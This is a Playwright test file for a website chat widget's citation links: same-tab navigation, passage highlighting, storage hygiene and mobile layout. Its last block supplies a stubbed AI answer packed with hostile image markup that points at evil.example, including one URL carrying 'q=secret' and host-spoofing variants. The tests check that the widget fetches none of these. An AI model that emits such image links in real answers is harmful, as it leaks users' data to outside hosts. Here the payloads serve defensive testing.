/** Links to sources in a real browser: in the same tab, at the passage, with the chat still open. */
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openBrowser, visit, type Visit } from "../testing/browser.ts";
import { chatOn } from "../testing/chat-page.ts";
import { lazyFileWith } from "../testing/lazy-files.ts";
import { type TestDemo, startTestDemo } from "../testing/test-demo.ts";
import { openOtherSite, type OtherSite } from "../testing/other-site.ts";
import { stubAnswer } from "../testing/stub-answer.ts";

let browser: Browser;
let demo: TestDemo;
let site: OtherSite;

const phone: BrowserContextOptions = { viewport: { width: 390, height: 844 }, hasTouch: true };
const anAnswer = "You pay nothing for widget and proxy, as both are open source with the MIT licence [1].";
const passage = "The widget and the proxy cost nothing: they are open source under the MIT licence.";

beforeAll(async () => {
  [browser, site] = await Promise.all([openBrowser(), openOtherSite()]);
  demo = await startTestDemo({
    pace: { firstMs: 30, everyMs: 0 },
    environment: { ALLOWED_ORIGINS: site.address },
  });
});
afterAll(async () => {
  await browser.close();
  await demo.close();
  await site.close();
});

/** Waits for the file without which a source on the same site opens like any other link. */
async function passagesLoaded({ page, requests }: Visit): Promise<void> {
  const file = lazyFileWith("citedPassage");
  await expect.poll(() => requests.some((address) => file.test(address))).toBe(true);
  const address = requests.find((each) => file.test(each));
  // As a text: a function's `import` would be rewritten for the test's own process.
  await page.evaluate(`import(${JSON.stringify(address)}).then(() => {})`);
}

/** Asks on a page, with a fixed answer and sources at these URLs. */
async function answered(
  start: string,
  addresses: readonly string[],
  { answer = anAnswer, profile = {} }: { answer?: string; profile?: BrowserContextOptions } = {},
) {
  const visited = await visit(browser, { reducedMotion: "reduce", ...profile });
  await stubAnswer(visited.context, { answer, citations: addresses.map((url) => ({ url })) });
  await visited.page.goto(start);
  const chat = chatOn(visited.page);
  await chat.open();
  await chat.ask("What does it cost?");
  await chat.answered();
  await chat.citations.first().waitFor();
  if (addresses.some((address) => address.startsWith(new URL(start).origin))) await passagesLoaded(visited);
  return { ...visited, chat };
}

const markedOn = (page: Page) =>
  page.evaluate(() =>
    [...(CSS.highlights.get("customgpt-passage") ?? [])].map((range) =>
      range instanceof Range ? range.toString().replace(/\s+/g, " ") : "",
    ),
  );

/** Whether a text of the page is visible. */
const inSight = (page: Page, words: string) =>
  page.evaluate((text) => {
    const paragraph = [...document.querySelectorAll("main p")].find((each) =>
      each.textContent.replace(/\s+/g, " ").includes(text),
    );
    const box = paragraph?.getBoundingClientRect();
    return Boolean(box && box.top >= 0 && box.bottom <= innerHeight);
  }, words);

describe("a source on the same site", () => {
  it("opens in a new tab where the next page would not have the conversation", async () => {
    const tag = `<script src="${demo.address}/widget.js" data-memory="page" async></script>`;
    const next = site.put(`<!doctype html><title>Prices</title><main><p>${passage}</p></main>`);
    const start = site.put(`<!doctype html><html lang="en"><title>Shop</title>${tag}`);
    const { context, page, chat } = await answered(start, [next]);
    const [other] = await Promise.all([context.waitForEvent("page"), chat.citations.first().click()]);
    await other.waitForLoadState();
    expect(new URL(other.url()).href).toContain(next);
    expect(await chat.answers.count()).toBe(1);
    const kept = await page.evaluate(() => [Object.keys(localStorage), Object.keys(sessionStorage)]);
    expect(kept).toEqual([[], []]);
    await context.close();
  });

  it("opens in the same tab, at the highlighted passage, with the chat open and nothing left in storage", async () => {
    const { page, context, chat, complaints } = await answered(demo.address, [`${demo.address}/faq`]);
    expect(await chat.citations.first().getAttribute("target")).toBeNull();
    await chat.citations.first().click();
    await page.waitForURL(/\/faq(#|$)/);
    await expect.poll(() => markedOn(page)).toEqual([passage]);
    expect(await inSight(page, passage)).toBe(true);
    await expect.poll(() => chat.panel.isVisible()).toBe(true);
    expect(context.pages()).toHaveLength(1);
    expect(await page.evaluate(() => Object.keys(sessionStorage).join())).not.toContain("passage");

    await page.mouse.click(400, 500);
    expect(await markedOn(page)).toEqual([]);
    expect(await page.evaluate(() => document.adoptedStyleSheets.length)).toBe(0);
    await page.reload();
    await expect.poll(() => chat.panel.isVisible()).toBe(true);
    await chat.citations.first().waitFor();
    expect(await markedOn(page)).toEqual([]);
    expect(complaints).toEqual([]);
    await context.close();
  });

  it("is found by the browser's text fragment if it has the same words, and not highlighted twice", async () => {
    const { page, context, chat } = await answered(demo.address, [`${demo.address}/faq`], {
      answer: `${passage} [1]`,
    });
    await chat.citations.first().click();
    await page.waitForURL(/\/faq(#|$)/);
    await expect.poll(() => inSight(page, passage)).toBe(true);
    await chat.citations.first().waitFor();
    await page.waitForLoadState("networkidle");
    expect(await markedOn(page)).toEqual([]);
    await context.close();
  });

  it("is the same passage for the card and for the number in the text, and both emit an event", async () => {
    const { page, context, chat } = await answered(`${demo.address}/faq`, [`${demo.address}/faq`]);
    await page.evaluate(() =>
      document.addEventListener("customgpt-citation", () => {
        document.documentElement.dataset["opened"] = `${document.documentElement.dataset["opened"] ?? ""}x`;
      }),
    );
    await page.locator("customgpt-widget a.marker").click();
    await expect.poll(() => markedOn(page)).toEqual([passage]);
    await page.evaluate(() => scrollTo(0, 0));
    await chat.citations.first().click();
    await expect.poll(() => markedOn(page)).toEqual([passage]);
    await expect.poll(() => inSight(page, passage)).toBe(true);
    expect(await page.evaluate(() => document.documentElement.dataset["opened"])).toBe("xx");
    await context.close();
  });

  it("on the current page is counted, scrolled to without loading, and adds no history entry", async () => {
    const { page, context, chat, requests } = await answered(`${demo.address}/faq?utm_source=mail#top`, [
      `${demo.address}/faq`,
      `${demo.address}/options`,
      "https://elsewhere.example/",
      `${demo.address}/faq/#cost`,
    ]);
    await page.getByText("2 of 4 sources are on this page").waitFor();
    expect(await chat.citations.first().textContent()).toContain("(on this page)");
    expect(await chat.citations.nth(1).textContent()).not.toContain("(");
    expect(await chat.citations.nth(2).textContent()).toContain("(opens in a new tab)");
    const before = [
      requests.filter((each) => each.includes("/faq")).length,
      await page.evaluate(() => history.length),
    ];
    await chat.citations.first().click();
    await expect.poll(() => markedOn(page)).toEqual([passage]);
    expect([
      requests.filter((each) => each.includes("/faq")).length,
      await page.evaluate(() => history.length),
    ]).toEqual(before);
    expect(page.url()).toContain("?utm_source=mail#top");
    await context.close();
  });

  it("without such a passage opens at its top, with nothing highlighted", async () => {
    const { page, context, chat } = await answered(`${demo.address}/faq`, [`${demo.address}/faq`], {
      answer: "Penguins live in the south and eat fish all day long [1].",
    });
    await page.evaluate(() => scrollTo(0, 900));
    await chat.citations.first().click();
    await expect.poll(() => page.evaluate(() => scrollY)).toBe(0);
    expect(await markedOn(page)).toEqual([]);
    await context.close();
  });

  it("is not covered by the chat on a phone, on this page and on the next", async () => {
    const { page, context, chat } = await answered(
      `${demo.address}/faq`,
      [`${demo.address}/faq`, `${demo.address}/security`],
      { profile: phone },
    );
    await chat.citations.first().click();
    await expect.poll(() => chat.panel.isVisible()).toBe(false);
    await expect.poll(() => markedOn(page)).toEqual([passage]);
    expect(await inSight(page, passage)).toBe(true);

    await chat.open();
    await chat.citations.nth(1).click();
    await page.waitForURL(/\/security(#|$)/);
    await chat.launcher.waitFor();
    expect(await chat.panel.isVisible()).toBe(false);
    await context.close();
  });
});

it("a site that changes its pages without loading them shows the passage too, once its text is rendered", async () => {
  const start = site.put(`<!doctype html><html lang="en"><title>Shop</title>
    <nav>You pay nothing for widget and proxy, as both are open source with the MIT licence</nav>
    <main><p>Welcome.</p></main>
    <script src="${demo.address}/widget.js" async></script>
    <script>
      navigation.addEventListener("navigate", (event) => {
        if (new URL(event.destination.url).pathname !== "/prices") return;
        event.intercept({ handler: async () => {
          await new Promise((resolve) => setTimeout(resolve, 500));
          document.querySelector("main").innerHTML =
            "<p style='height: 3000px'>Much before.</p><p>${passage}</p><p style='height: 3000px'>Much after.</p>";
        } });
      });
    </script>`);
  const { page, context, chat } = await answered(start, [`${site.address}/prices`]);
  await chat.citations.first().click();
  await expect.poll(() => markedOn(page)).toEqual([passage]);
  expect(await inSight(page, passage)).toBe(true);
  expect(await page.evaluate(() => sessionStorage.getItem("customgpt-widget:passage"))).toBeNull();
  await context.close();
});

describe("pictures in an answer", () => {
  const hostile = [
    "![a](https://evil.example/1?q=secret)",
    "![b][c] ![d]",
    "<img src='https://evil.example/2'> <svg><image href='https://evil.example/3'/></svg>",
    "[![e](//evil.example/4)](https://evil.example/5)",
    "![f](https://cdn.example.com.evil.example/6) ![g](https://cdn.example.com@evil.example/7)",
    "![h](data:image/svg+xml;base64,PHN2Zz4=) <style>@import 'https://evil.example/8'</style>",
    "| ![i](https://evil.example/9) |\n|-|\n| ![j](https:\\\\evil.example/10) |",
    "![allowed](https://cdn.example.com/yes.png)",
    "[c]: https://evil.example/11\n[d]: https://evil.example/12",
  ].join("\n\n");

  async function shown(attributes: string) {
    const start = site.put(`<!doctype html><html lang="en"><title>Shop</title><main><p>Welcome.</p></main>
      <script src="${demo.address}/widget.js" ${attributes} async></script>`);
    const { page, context, requests } = await visit(browser);
    const chat = chatOn(page);
    const referrers: (string | undefined)[] = [];
    await context.route(/evil\.example|cdn\.example/, (route) => {
      referrers.push(route.request().headers()["referer"]);
      return route.fulfill({ status: 204 });
    });
    await stubAnswer(context, { answer: hostile, citations: [] });
    await page.goto(start);
    await chat.open();
    await chat.ask("Show me");
    await chat.answered();
    await page.waitForLoadState("networkidle");
    const foreign = requests.filter((each) => ![demo, site].some(({ address }) => each.startsWith(address)));
    await context.close();
    return { referrers, foreign };
  }

  it("are not requested in any markup", async () => {
    expect(await shown("")).toEqual({ referrers: [], foreign: [] });
  });

  it("are requested from hosts that the owner listed only, without a referrer", async () => {
    const { referrers, foreign } = await shown('data-images="cdn.example.com"');
    expect(foreign).toEqual(["https://cdn.example.com/yes.png"]);
    expect(referrers).toEqual([undefined]);
  });
});
